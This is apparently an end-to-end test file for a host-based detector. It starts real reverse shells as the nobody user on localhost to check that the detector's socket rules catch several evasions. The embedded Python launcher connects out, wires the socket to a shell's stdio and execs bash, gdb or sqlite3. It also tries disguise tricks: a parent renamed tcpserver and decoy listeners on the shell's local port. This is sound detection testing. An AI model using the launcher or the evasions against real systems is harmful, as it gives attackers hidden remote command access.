// End to end, issue 22 (trial 8, F1, F3, F7): real processes an unprivileged user (nobody) starts to hide a
// reverse shell from the socket rules, and a live `daemoneye detect` with the built-in pack. A parent's name
// (a symlink named tcpserver to python3), a decoy listener on the shell's own local port, or a program that is
// no shell (gdb, sqlite3) must not make a dialled-out connection on stdio look accepted or harmless; a service
// on a connection a root listener accepted must stay out of the critical rule.
import {type ChildProcess, spawn} from 'node:child_process';
import {chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync} from 'node:fs';
import {connect, createServer, type Server, type Socket} from 'node:net';
import {join} from 'node:path';

import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import type {Alert} from '../../src/models/alert.js';
import {isolatedEnv, killGroups, removeDir, runCli, tempDir} from '../helpers/cli.js';

const dir = tempDir();
const env = isolatedEnv(dir);
const children: ChildProcess[] = [];
const sockets: Socket[] = [];
let server: Server | undefined;
let port = 0;
let alerts: Alert[] = [];

// Connects to 127.0.0.1:PORT (from LOCAL_ADDRESS:LOCAL_PORT when given, with a listener of its own on
// DECOY_ADDRESS:LOCAL_PORT), then runs argv on the connection: forked (the launcher waits) or exec'd.
const LAUNCHER = `import socket, os, sys
port, local, decoy, mode = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
s = socket.socket()
keep = []
if local != '-':
    address, lport = local.split(':')
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind((address, int(lport)))
s.connect(('127.0.0.1', port))
if decoy != '-':
    l = socket.socket()
    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    l.bind((decoy, s.getsockname()[1]))
    l.listen(1)
    keep.append(l)
def run():
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    os.execv(sys.argv[5], sys.argv[5:])
if mode == 'exec':
    run()
pid = os.fork()
if pid == 0:
    for k in keep: k.close()
    run()
s.close()
os.waitpid(pid, 0)
`;

// A root accept loop on 127.0.0.1:PORT: each accepted connection becomes the stdio of argv (a socket unit's way).
const ACCEPTOR = `import socket, os, sys
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(('127.0.0.1', 0)); l.listen(5)
print(l.getsockname()[1], flush=True)
while True:
    c, _ = l.accept()
    if os.fork() == 0:
        os.dup2(c.fileno(), 0); os.dup2(c.fileno(), 1)
        os.execv(sys.argv[1], sys.argv[1:])
    c.close()
`;

const pids = {tcpserverShell: 0, otherAddressDecoy: 0, sameAddressDecoy: 0, gdb: 0, sqlite3: 0, acceptedShell: 0, acceptedSqlite: 0};

function start(command: string, args: readonly string[], asNobody: boolean): ChildProcess {
  const child = asNobody
    ? spawn('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', command, ...args], {detached: true, stdio: 'ignore'})
    : spawn(command, args, {detached: true, stdio: ['ignore', 'pipe', 'ignore']});
  children.push(child);
  return child;
}

/** The pids of the processes whose parent is `ppid` (from /proc), waiting until there are `count`. */
async function childrenOf(ppid: number, count = 1): Promise<number[]> {
  for (let i = 0; i < 200; i++) {
    const found = readFileSync(`/proc/${ppid}/task/${ppid}/children`, 'utf8').trim().split(/\s+/).filter(Boolean).map(Number);
    if (found.length >= count) return found;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`no child of ${ppid}`);
}

/** Wait until `pid` runs `exe` (its exec done). */
async function execed(pid: number, exe: string): Promise<number> {
  for (let i = 0; i < 200; i++) {
    try {
      if (readFileSync(`/proc/${pid}/cmdline`, 'latin1').split('\0')[0] === exe) return pid;
    } catch {
      // not yet
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`${pid} never ran ${exe}`);
}

beforeAll(async () => {
  mkdirSync(join(dir, 'a1'));
  writeFileSync(join(dir, 'a1', 'rs.py'), LAUNCHER);
  writeFileSync(join(dir, 'acceptor.py'), ACCEPTOR);
  // F1: python3 run through a symlink named tcpserver (comm and argv[0] both read tcpserver).
  symlinkSync('/usr/bin/python3', join(dir, 'a1', 'tcpserver'));
  chmodSync(dir, 0o755);
  chmodSync(join(dir, 'a1'), 0o755);
  server = createServer((socket) => sockets.push(socket));
  port = await new Promise<number>((resolve) =>
    server?.listen(0, '127.0.0.1', () => {
      const address = server?.address();
      resolve(typeof address === 'object' && address !== null ? address.port : 0);
    }),
  );
  const rs = join(dir, 'a1', 'rs.py');
  const tcpserver = start(join(dir, 'a1', 'tcpserver'), [rs, String(port), '-', '-', 'fork', '/bin/bash'], true);
  // F7: the outgoing connection's local port listened on by the attacker, on 127.0.0.2 and on its own address.
  const other = start('/usr/bin/python3', [rs, String(port), '-', '127.0.0.2', 'fork', '/bin/bash'], true);
  const same = start('/usr/bin/python3', [rs, String(port), '127.0.0.1:0', '127.0.0.1', 'fork', '/bin/bash'], true);
  // F3: programs that are no shell but run commands they read (gdb `shell CMD`, sqlite3 `.shell CMD`).
  const gdb = start('/usr/bin/python3', [rs, String(port), '-', '-', 'exec', '/usr/bin/gdb', '-q', '-nx'], true);
  const sqlite = start('/usr/bin/python3', [rs, String(port), '-', '-', 'exec', '/usr/bin/sqlite3', '-interactive'], true);
  // Near misses: a shell and sqlite3 on connections a root listener accepted.
  for (const [key, argv] of [
    ['acceptedShell', ['/bin/bash']],
    ['acceptedSqlite', ['/usr/bin/sqlite3', '-interactive']],
  ] as const) {
    const acceptor = start('/usr/bin/python3', [join(dir, 'acceptor.py'), ...argv], false);
    const acceptorPort = await new Promise<number>((resolve) => acceptor.stdout?.once('data', (data: Buffer) => resolve(Number(String(data).trim()))));
    const socket = await new Promise<Socket>((resolve) => {
      const s: Socket = connect(acceptorPort, '127.0.0.1', () => resolve(s));
    });
    sockets.push(socket);
    pids[key] = await execed((await childrenOf(acceptor.pid ?? 0))[0] ?? 0, argv[0]);
  }
  pids.tcpserverShell = await execed((await childrenOf(tcpserver.pid ?? 0))[0] ?? 0, '/bin/bash');
  pids.otherAddressDecoy = await execed((await childrenOf(other.pid ?? 0))[0] ?? 0, '/bin/bash');
  pids.sameAddressDecoy = await execed((await childrenOf(same.pid ?? 0))[0] ?? 0, '/bin/bash');
  pids.gdb = await execed(gdb.pid ?? 0, '/usr/bin/gdb');
  pids.sqlite3 = await execed(sqlite.pid ?? 0, '/usr/bin/sqlite3');

  const detect = await runCli(['detect', '--format', 'json'], {env, timeoutMs: 120_000});
  expect(detect.code, detect.stderr).toBe(0);
  alerts = (JSON.parse(detect.stdout) as {alerts: Alert[]}).alerts;
}, 240_000);

afterAll(() => {
  for (const socket of sockets) socket.destroy();
  server?.close();
  killGroups(children);
  removeDir(dir);
});

const rulesFor = (pid: number): string[] =>
  alerts
    .filter((alert) => alert.affected_processes.includes(pid))
    .map((alert) => `${alert.rule_id}:${alert.severity}`)
    .sort();

describe('detect: the socket rules against evasions an unprivileged user can make (issue 22)', () => {
  it('reports a shell under a python3 named tcpserver (critical), as under any other parent', () => {
    expect(rulesFor(pids.tcpserverShell)).toEqual(
      expect.arrayContaining(['reverse-shell-stdio-tcp:critical', 'shell-stdio-socket:high', 'reverse-shell-socket:high']),
    );
  });

  it('reports a shell whose local port the attacker listens on, on another address or its own (critical)', () => {
    expect(rulesFor(pids.otherAddressDecoy)).toContain('reverse-shell-stdio-tcp:critical');
    expect(rulesFor(pids.sameAddressDecoy)).toContain('reverse-shell-stdio-tcp:critical');
  });

  it('reports gdb and sqlite3 reading commands from a dialled-out connection (high)', () => {
    expect(rulesFor(pids.gdb)).toContain('stdio-outbound-tcp:high');
    expect(rulesFor(pids.sqlite3)).toContain('stdio-outbound-tcp:high');
  });

  it('keeps a shell and sqlite3 on connections a root listener accepted out of the outgoing-connection rules', () => {
    expect(rulesFor(pids.acceptedShell)).toContain('shell-stdio-socket:high');
    expect(rulesFor(pids.acceptedShell)).not.toContain('reverse-shell-stdio-tcp:critical');
    expect(rulesFor(pids.acceptedSqlite).filter((rule) => rule.startsWith('stdio-outbound-tcp'))).toEqual([]);
  });
});
